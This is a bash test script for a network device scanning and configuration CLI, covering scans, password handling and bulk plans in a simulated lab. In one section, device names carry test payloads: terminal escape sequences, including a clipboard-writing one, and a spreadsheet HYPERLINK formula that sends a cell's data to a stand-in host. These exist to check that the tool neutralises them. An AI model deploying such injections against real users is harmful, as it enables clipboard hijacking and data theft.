#!/bin/bash
# Lab tests of netsonde-cli, natively or netsonde-cli.exe under Wine, on a lab of two
# workstation interfaces: scans over both adapters, a fleet of 5000, set (accepted and verified,
# refused, silent, dry run, byte for byte as the Change dialog sends it), apply of a
# commissioning plan, plan then apply on thirty devices sharing one factory address, and --since
# after the segment changed. One lab and one Wine prefix serve
# every case; the simulator's scenario is swapped between groups, and its log tells what went
# on the wire during each command.
#   cli_test.sh native|wine CLI DEVSIM      (exit 77: skipped; CLI_TEST_KEEP=1 keeps the work
#                                             folder with every command's output and wire log)
set -uo pipefail
lab_dir=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
scenarios=$lab_dir/scenarios

if [ "${1:-}" = inside ]; then
    backend=$2 cli=$3 work=$4
else
    backend=${1:-} cli=${2:-} devsim=${3:-}
    [ "$(id -u)" -eq 0 ] || { echo "cli_test: needs root; skipped"; exit 77; }
    case $backend in
        native | wine) ;;
        *) echo "usage: cli_test.sh native|wine CLI DEVSIM" >&2; exit 2 ;;
    esac
    if [ ! -f "$cli" ]; then
        echo "cli_test: no program at '$cli' (is that tree built?); skipped"
        exit 77
    fi
    cli=$(cd "$(dirname "$cli")" && pwd)/$(basename "$cli")
    work=$(mktemp -d "${TMPDIR:-/tmp}/lab-cli.XXXXXX")
    [ -n "${CLI_TEST_KEEP:-}" ] || trap 'rm -rf "$work"' EXIT
    lab_args=(--ws-ifs 2 --devsim "$devsim")
    if [ "$backend" = wine ]; then
        # A prefix of this run's own.
        # shellcheck source=wine_prefix.sh
        . "$lab_dir/wine_prefix.sh"
        new_lab_prefix "$work/prefix"
        lab_args+=(--wine-prefix "$work/prefix")
    fi
    "$lab_dir/netlab.sh" "${lab_args[@]}" -- "${BASH_SOURCE[0]}" inside "$backend" "$cli" "$work"
    exit $?
fi

# ---- Inside the lab's workstation namespace from here on.
# The program itself has no guard of its own: never run it outside the lab.
# shellcheck source=lab_guard.sh
. "$lab_dir/lab_guard.sh" && lab_guard || exit 97
# shellcheck source=check.sh
. "$lab_dir/check.sh"
export WINEDEBUG=-all
cd "$work" || exit 2
sim_log=$work/sim.log
: >"$sim_log"
# The first Wine program of a prefix starts Wine's services, which hold the processor for a few
# seconds; let that pass before anything is timed by receive windows.
[ "$backend" = native ] || wine cmd /c exit >/dev/null 2>&1 </dev/null

start_sim() {
    "$lab_dir/labsim.sh" start "$1" "$sim_log" "${@:2}" || { echo "FAIL: simulator start"; exit 1; }
}

# cli NAME ARGS...: runs the program once; NAME.out and NAME.err hold what it wrote (line ends
# made plain), $rc its exit code and NAME.wire the requests the simulator received meanwhile
# (sender, length, hex). Standard input is $stdin_file, or nothing.
cli() {
    local name=$1 before
    shift
    before=$(wc -l <"$sim_log")
    if [ "$backend" = wine ]; then
        wine "$cli" "$@" >"$name.out" 2>"$name.err" <"${stdin_file:-/dev/null}"
    else
        "$cli" "$@" >"$name.out" 2>"$name.err" <"${stdin_file:-/dev/null}"
    fi
    rc=$?
    sed -i 's/\r$//' "$name.out" "$name.err"
    tail -n +$((before + 1)) "$sim_log" | awk '$2 != ">" {print $2, $3, $4}' >"$name.wire"
}

# Requests on the wire by kind: "SENDER OPCODE" per datagram, counted.
wire_kinds() { awk '{split($1, a, ":"); print a[1], substr($3, 3, 2)}' "$1.wire" | sort | uniq -c |
    awk '{print $2, $3, $1}'; }
set_requests_for() { awk -v mac="$2" 'substr($3, 3, 2) == "03" && substr($3, 73, 12) == mac' \
    "$1.wire"; }

# ---- Two adapters: devices behind each, one heard on both; every adapter scanned at once.
start_sim "$scenarios/cli_two_adapters.scn"
cli adapters adapters --json
check "adapters: exit code" 0 $rc
check "adapters: both lab addresses with their interfaces" \
    '["198.18.0.1","ws0"] ["198.18.1.1","ws1"]' \
    "$(jq -c '.[] | [.address, .interface]' adapters.out | sort | tr '\n' ' ' | sed 's/ $//')"

cli both scan --format json --save first.json
check "two adapters: exit code" 0 $rc
check "two adapters: each device once, with the adapters that heard it" \
    "02-00-5e-30-00-01 sw-left 198.18.0.1
02-00-5e-30-00-02 sw-right 198.18.1.1
02-00-5e-30-00-03 ap-both 198.18.0.1 198.18.1.1
02-00-5e-30-00-04 cam-old 198.18.0.1" \
    "$(jq -r '.devices[] | "\(.mac) \(.name) \(.adapters | sort | join(" "))"' both.out | sort)"
check "two adapters: three discovery requests from each adapter, nothing else" \
    "198.18.0.1 01 3
198.18.1.1 01 3" "$(wire_kinds both)"
check "two adapters: --save wrote the same devices" "$(jq -c '.devices | sort_by(.mac)' both.out)" \
    "$(jq -c '.devices | sort_by(.mac)' first.json)"
check "two adapters: the device keys" \
    "mac name ip mask gateway tftp image type uptime_s uptime description adapters conflicts" \
    "$(jq -r '.devices[0] | keys_unsorted | join(" ")' both.out)"
check "two adapters: types and uptime as numbers" '"static" "dynamic" 5000' \
    "$(jq -r '(.devices | map({(.name): .}) | add) as $d |
        [$d["sw-left"].type, $d["ap-both"].type, $d["sw-left"].uptime_s] | map(tojson) |
        join(" ")' both.out)"

# A --save that cannot be written is said; the scan is still printed and keeps its exit code.
cli one scan --adapter ws1 --format csv --save "$work/no such folder/one.json"
check "one adapter: exit code (a --save that failed does not change it)" 0 $rc
check "one adapter: the failed --save is said" 1 "$(grep -c 'not saved' one.err)"
check "one adapter (by name): only what ws1 hears, CSV" \
    "mac,name,ip,mask,gateway,tftp,image,type,uptime_s,uptime,description,adapters,conflicts
02-00-5e-30-00-02,sw-right,198.18.1.22,255.255.255.0,0.0.0.0,0.0.0.0,,static,4000,0 d 1 h 6 m 40 s,Switch right,198.18.1.1,
02-00-5e-30-00-03,ap-both,198.18.0.23,255.255.0.0,0.0.0.0,0.0.0.0,,dynamic,3000,0 d 0 h 50 m 0 s,Access point,198.18.1.1," \
    "$(head -1 one.out; tail -n +2 one.out | sort)"
check "one adapter: requests only from it" "198.18.1.1 01 3" "$(wire_kinds one)"

cli missing scan --adapter 198.18.7.7
check "an adapter that does not exist: adapter failure" 2 $rc
check "an adapter that does not exist: nothing sent" "" "$(cat missing.wire)"

truncate -s 65M huge.json
cli huge scan --since huge.json
check "a --since file over 64 MiB: usage error, said, nothing sent" "1 1 " \
    "$rc $(grep -c 'larger than 64 MiB' huge.err) $(cat huge.wire)"
rm -f huge.json

# ---- What changed: sw-left renamed, cam-old gone, cam-new new.
start_sim "$scenarios/cli_two_adapters_later.scn"
cli since scan --since first.json --newest --format json
check "since: exit code" 0 $rc
check "since: each device's change and changed fields, newest first, gone last" \
    "02-00-5e-30-00-05 new
02-00-5e-30-00-03 same 
02-00-5e-30-00-02 same 
02-00-5e-30-00-01 changed name
02-00-5e-30-00-04 gone " \
    "$(jq -r '.devices[] | "\(.mac) \(.change)" +
        (if .change == "new" then "" else " " + (.changed_fields | join(" ")) end)' since.out)"
check "since: a gone device keeps its last values" "cam-old 198.18.0.24" \
    "$(jq -r '.devices[] | select(.change == "gone") | "\(.name) \(.ip)"' since.out)"
cli since_one scan --since first.json --adapter ws1 --format json
check "since on one adapter: devices behind the other are not scanned, not gone" \
    "02-00-5e-30-00-01 not scanned|02-00-5e-30-00-04 not scanned" \
    "$(jq -r '.devices[] | select(.change == "gone" or .change == "not scanned") |
        "\(.mac) \(.change)"' since_one.out | sort | paste -sd'|')"

# ---- Texts that attack where they are shown, and conflicts: no device text reaches the
# terminal as a control character or a spreadsheet as a formula; JSON keeps it exact; one IP on
# two devices and one MAC with two records are marked, and the exit code stays 0.
start_sim "$scenarios/cli_hostile.scn"
cli hostile scan --adapter ws0 --save hostile.json
check "hostile texts: exit code" 0 $rc
check "hostile: the table shows the name's controls as \\xHH" 1 \
    "$(grep -cF '\x1B]52;c;aGFja2Vk\x07' hostile.out)"
check "hostile: JSON keeps the texts exact" \
    '"\u001b]52;c;aGFja2Vk\u0007" "=HYPERLINK(\"http://x/?\"&B2,\"Firmware update required\")"' \
    "$(jq -c '.devices[0] | .name, .description' hostile.json | tr '\n' ' ' | sed 's/ $//')"
check "hostile: the conflicts of each device" "02-00-5e-50-00-01 -
02-00-5e-50-00-02 ip
02-00-5e-50-00-03 ip
02-00-5e-50-00-04 mac
02-00-5e-50-00-05 -
02-00-5e-50-00-06 -" \
    "$(jq -r '.devices[] | "\(.mac) \(.conflicts | if length == 0 then "-" else join(" ") end)"' \
        hostile.json)"
check "hostile: the table marks the devices in conflict" \
    "02-00-5e-50-00-02 02-00-5e-50-00-03 02-00-5e-50-00-04" "$(grep -o '^! *02-00-5e-50-00-0.' hostile.out | awk '{print $2}' | tr '\n' ' ' | sed 's/ $//')"
check "hostile: one summary line of the conflicts" 1 "$(grep -c 'conflicts: 2 .*, 1 ' hostile.err)"
cli hostile_csv scan --adapter ws0 --format csv
check "hostile: the CSV's formula cell starts with an apostrophe, conflicts last" 1 \
    "$(grep -cF ",\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"Firmware update required\"\")\",198.18.0.1," \
        hostile_csv.out)"
check "hostile: the CSV's conflicts column" "conflicts ip mac" \
    "$(head -1 hostile_csv.out | tr ',' '\n' | tail -1) $(grep -c ',ip$' hostile_csv.out |
        sed 's/^2$/ip/') $(grep -c ',mac$' hostile_csv.out | sed 's/^1$/mac/')"
cli hostile_set set 02-00-5e-50-00-01 --adapter ws0 --ip 198.18.0.61 --verify-timeout 20
check "hostile: set accepted and verified" 0 $rc
check "hostile: set shows the name's and image file name's controls as \\xHH" "1 2" \
    "$(grep -cF '(\x1B]52;c;aGFja2Vk\x07)' hostile_set.out) $(grep -cF \
        'image: \x1B[1A\x1B[2Kfw.bin' hostile_set.out)"
check "hostile: no escape or bell byte in the table, set or messages" 0 \
    "$(cat hostile.out hostile.err hostile_set.out hostile_set.err | tr -cd '\033\007' | wc -c)"

# ---- A fleet of 5000 answering at once: all listed (the time is the benchmark's business).
start_sim "$scenarios/cli_fleet_5000.scn"
started=$(date +%s%N)
cli fleet scan --format csv
elapsed=$((($(date +%s%N) - started) / 1000000))
check "5000 devices: exit code" 0 $rc
check "5000 devices: all listed" 5000 "$(tail -n +2 fleet.out | cut -d, -f1 | sort -u | wc -l)"
echo "info: $backend scan of 5000 devices took $elapsed ms"

# ---- set, against the Change dialog's test devices (tests/e2e/scenarios/change_devices.scn),
# every device heard on both adapters.
start_sim "$lab_dir/../e2e/scenarios/change_devices.scn" --log-sent
hex_of() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n'; }
# patch HEX OFFSET NEWHEX: the record's hex with bytes from OFFSET on replaced.
patch() { echo "${1:0:$((2 * $2))}$3${1:$((2 * $2 + ${#3}))}"; }
reply_of() { grep " > " "$sim_log" | awk -v mac="$1" 'substr($5, 3, 2) == "02" &&
    substr($5, 73, 12) == mac {print $5; exit}'; }

cli ambiguous set 02-00-5e-20-00-01 --ip 198.18.0.41
check "set on a device heard on two adapters without --adapter: usage error" 1 $rc
check "set without --adapter: names both adapters" "2" \
    "$(grep -o '198\.18\.[01]\.1' ambiguous.err | sort -u | wc -l)"
check "set without --adapter: no set request" "" "$(set_requests_for ambiguous 02005e200001)"

# The same inputs as the Change dialog's end-to-end cases give the same bytes: a static device
# without v, every address typed, and a dynamic device with v given only a password (MAC in
# colons and capitals).
base=$(reply_of 02005e200001)
expected=$(patch "$base" 0 ab0307cf)
expected=$(patch "$expected" 4 "$(hex_of s3cret)00")
expected=$(patch "$expected" 44 c6120029)
expected=$(patch "$expected" 340 c6120007)
expected=$(patch "$expected" 344 "$(hex_of sw.bin)00")
expected=$(patch "$expected" 600 ffff0000c61200fd01000000)
cli static set 02-00-5e-20-00-01 --adapter ws0 --ip 198.18.0.41 --mask 255.255.0.0 \
    --gateway 198.18.0.253 --tftp 198.18.0.7 --image sw.bin --password s3cret --verify-timeout 20
check "set accepted and verified: exit code" 0 $rc
requests=$(set_requests_for static 02005e200001)
check "set accepted: one request (two if the first window closed early)" 1 \
    "$(echo "$requests" | sort -u | wc -l)"
check "set accepted: the Change dialog's bytes" "$expected" "$(echo "$requests" | head -1 | cut -d' ' -f3)"
check "set accepted: sent from ws0" "198.18.0.1" "$(echo "$requests" | head -1 | cut -d: -f1)"
check "set verified: old and new address reported after the verification" 1 \
    "$(sed -n '/verified/,$p' static.out | grep -c '198\.18\.0\.31.*198\.18\.0\.41')"
check "set: --password earns one warning line" 1 "$(grep -c 'warning: --password' static.err)"
check "set verified: each flagged field verified, the password not verifiable" \
    "ip verified|password not verifiable" \
    "$(sed -n '/: verified$/,$p' static.out | grep -oE '^  (ip|password): .*: (not )?verifi(ed|able)' |
        sed -E 's/^  ([a-z]+): .*: ((not )?verifi(ed|able))$/\1 \2/' | sort | paste -sd'|')"

# The password from the environment, then from standard input: the same bytes as typed.
base=$(reply_of 02005e200002)
expected=$(patch "$(patch "$base" 0 ab03040a)" 4 "$(hex_of Env-Secret)00")
# The device reports no password stored: the password goes out unflagged, which is said, and the
# change is not done (exit code 5).
NETSONDE_PASSWORD=Env-Secret cli dynamic set 02:00:5E:20:00:02 --adapter 198.18.0.1 --no-verify
check "set a dynamic device with v and no password stored: not done" 5 $rc
check "set a password for a device that reports none stored: said" 1 \
    "$(grep -c '^  password not flagged: the device reports none stored$' dynamic.out)"
check "set a dynamic device with v, NETSONDE_PASSWORD: the Change dialog's bytes" "$expected" \
    "$(set_requests_for dynamic 02005e200002 | head -1 | cut -d' ' -f3)"
check "set with NETSONDE_PASSWORD: no warning" "" "$(cat dynamic.err)"
printf 'Stdin-Secret\r\nnot this line\n' >stdin.txt
stdin_file=stdin.txt NETSONDE_PASSWORD=Env-Secret cli from_stdin set 02-00-5e-20-00-02 \
    --adapter ws0 --password-stdin --no-verify
check "set --password-stdin: exit code (the device took the last request whole: a password stored)" \
    0 $rc
check "set --password-stdin: its first line, not the environment's, went out" \
    "$(hex_of Stdin-Secret)00" \
    "$(set_requests_for from_stdin 02005e200002 | head -1 | cut -d' ' -f3 | cut -c9-34)"

# Typed in UTF-8: Windows hands a narrow main the ANSI code page, which cannot say "ü" in UTF-8.
LANG=C.UTF-8 cli buro set 02-00-5e-20-00-01 --adapter ws0 --name Büro --dry-run
check "set --name Büro: exit code" 0 $rc
check "set --name Büro: the name as typed" 1 "$(grep -c 'name: sw-static → Büro' buro.out)"

cli refused set 02-00-5e-20-00-03 --adapter ws0 --mask 255.255.0.0
check "set refused: exit code" 3 $rc
check "set refused: the mask's value and its field named" "256 subnet mask" \
    "$(cat refused.out refused.err | grep -o '256\|subnet mask' | sort -u | tr '\n' ' ' | sed 's/ $//')"

cli silent set 02-00-5e-20-00-05 --adapter ws0 --name quiet
check "set silent: exit code" 4 $rc
check "set silent: three requests on the wire" 3 "$(set_requests_for silent 02005e200005 | wc -l)"

cli dry set 02-00-5e-20-00-01 --adapter ws0 --ip 198.18.0.42 --dry-run
check "dry run: exit code" 0 $rc
check "dry run: nothing but discovery on the wire" "198.18.0.1 01 3" "$(wire_kinds dry)"
check "dry run: shows the ChangeMask" 1 "$(grep -ciE '0x07cf|1999' dry.out)"

# A name alone: carried unflagged, so never claimed as verified; the change is done.
cli named set 02-00-5e-20-00-01 --adapter ws0 --name renamed --verify-timeout 10
check "set --name: exit code" 0 $rc
check "set --name: the name marked not verifiable, with what the device shows" 1 \
    "$(grep -c '^  name: .* → renamed: not verifiable, sent unflagged (the device shows ' named.out)"

cli notfound set 02-00-5e-20-00-99 --adapter ws0 --name x
check "set on an unknown MAC: not found" 6 $rc


# ---- apply: a plan of 50 rows, first with 3 bad rows (nothing may be sent), then corrected.
# The last ten rows leave the password to --password-file.
start_sim "$scenarios/cli_apply_50.scn"
{
    echo "mac,ip,name,password"
    for k in $(seq 1 50); do
        printf '02-00-5e-40-00-%02x,198.18.2.%d,cam-%d,%s\n' "$k" "$k" "$k" \
            "$([ "$k" -le 40 ] && echo Plan-Secret)"
    done
} >plan.csv
printf 'File-Secret\n' >password.txt
chmod 644 plan.csv
cp plan.csv good.csv
sed -i -e '11s/198\.18\.2\.10,/198.18.2.300,/' \
    -e '21s/^02-00-5e-40-00-14/02-00-5e-40-00-13/' \
    -e '31s/198\.18\.2\.30,/198.18.2.29,/' plan.csv
cli bad_plan apply plan.csv
check "apply with 3 bad rows: usage error" 1 $rc
check "apply with 3 bad rows: each named by file and line" "plan.csv:11: plan.csv:21: plan.csv:31:" \
    "$(grep -o 'plan\.csv:[0-9]*:' bad_plan.err bad_plan.out | sed 's/^[^:]*://' | sort -u | tr '\n' ' ' | sed 's/ $//')"
check "apply with 3 bad rows: nothing on the wire" "" "$(cat bad_plan.wire)"

cli good_plan apply good.csv --report report.json --verify-timeout 30 --password-file password.txt
check "apply with one device refusing: exit code" 3 $rc
check "apply: rows without a password of their own get --password-file's" 10 \
    "$(awk 'substr($3, 3, 2) == "03" {print substr($3, 9, 24), substr($3, 73, 12)}' good_plan.wire |
        grep "^$(hex_of File-Secret)00 " | sort -u | wc -l)"
if [ "$backend" = native ]; then
    check "apply: a plan with passwords that others may read is warned of" 1 \
        "$(grep -c 'warning: good.csv holds passwords' good_plan.err)"
fi
check "apply: one set request per row (a second when a window closed early)" 50 \
    "$(awk 'substr($3, 3, 2) == "03" {print substr($3, 73, 12)}' good_plan.wire | sort -u | wc -l)"
check "apply: 49 rows accepted and verified, the refusing one reported" "49 1" \
    "$(jq -r '[.rows[].outcome] | [map(select(. == "accepted, verified")), map(select(. == "refused"))]
        | map(length) | join(" ")' report.json)"
check "apply: no password in the report or the output" 0 \
    "$(cat report.json good_plan.out good_plan.err | grep -c Plan-Secret)"

# ---- plan, then apply of that plan: thirty cameras on one factory address; the switch among
# them and this workstation keep their addresses out of the plan.
start_sim "$scenarios/cli_plan_30.scn"
cli plan plan --adapter ws0 --match 'description=ip CAMERA' --ip-from 198.18.0.1 --output plan30.csv
check "plan: exit code" 0 $rc
check "plan: no password; by MAC, past 198.18.0.1 and the switch's .11, one row each" \
    "mac,ip 02-00-5e-50-00-01,198.18.0.2 02-00-5e-50-00-0a,198.18.0.12 02-00-5e-50-00-1e,198.18.0.32 31" \
    "$(tr -d '\r' <plan30.csv | sed -n '1p;2p;11p;31p' | tr '\n' ' ')$(wc -l <plan30.csv)"
check "plan: nothing but discovery on the wire" "198.18.0.1 01 3" "$(wire_kinds plan)"
cli apply30 apply plan30.csv --adapter ws0 --report report30.csv --verify-timeout 30
check "apply of the plan: exit code" 0 $rc
check "apply of the plan: every camera verified" 30 "$(grep -c ',"accepted, verified",' report30.csv)"
# Handed out again from .3, each camera's new address is one another camera leaves.
cli replan plan --adapter ws0 --match 'name=cam-*' --ip-from 198.18.0.3 --output replan.csv
cli shifted apply replan.csv --adapter ws0 --dry-run
check "plan again, one address along: apply accepts it" "0 0" "$rc $(grep -c . shifted.err)"
cli nomatch plan --adapter ws0 --match 'name=printer-*' --ip-from 198.18.0.2
check "plan matching nothing: not found" 6 $rc

# ---- A second address on ws0, and an interface whose name is not UTF-8 (Linux names are bytes;
# Wine shows "ü" in the ANSI code page). Wine reads the interfaces when its server starts.
ip addr add 198.18.0.2/24 dev ws0
ip link add "$(printf 'b\xc3\xbcro\xfc')" type veth peer name odd-peer
ip addr add 198.18.9.1/24 dev "$(printf 'b\xc3\xbcro\xfc')"
if [ "$backend" = wine ]; then
    wineserver -k; wineserver -w; wineserver -p
    wine cmd /c exit >/dev/null 2>&1 </dev/null
fi
cli odd_adapters adapters --json
check "adapters --json with an interface name that is not UTF-8: exit code" 0 $rc
check "adapters --json with an interface name that is not UTF-8: valid JSON, every address" \
    "198.18.0.1 198.18.0.2 198.18.1.1 198.18.9.1" "$(jq -r '[.[].address] | sort | join(" ")' odd_adapters.out)"
echo "mac,name" >one_row.csv
echo "02-00-5e-50-00-01,cam-one" >>one_row.csv
cli two_addresses apply one_row.csv --adapter ws0 --dry-run --report "$work/no such folder/r.csv"
check "apply on an interface with two addresses: sent from its first, the dry run's exit code" \
    "0 198.18.0.1" "$rc $(grep -o 'on 198\.18\.0\.[12]' two_addresses.out | cut -c4-)"
check "apply: the failed --report is said" 1 "$(grep -c 'not written' two_addresses.err)"

# No command printed, logged or saved any password it was given.
check "no password in any output, report or saved scan" "" \
    "$(grep -l -e s3cret -e Env-Secret -e Stdin-Secret -e Plan-Secret -e File-Secret \
        ./*.out ./*.err ./*.json 2>/dev/null)"
finish
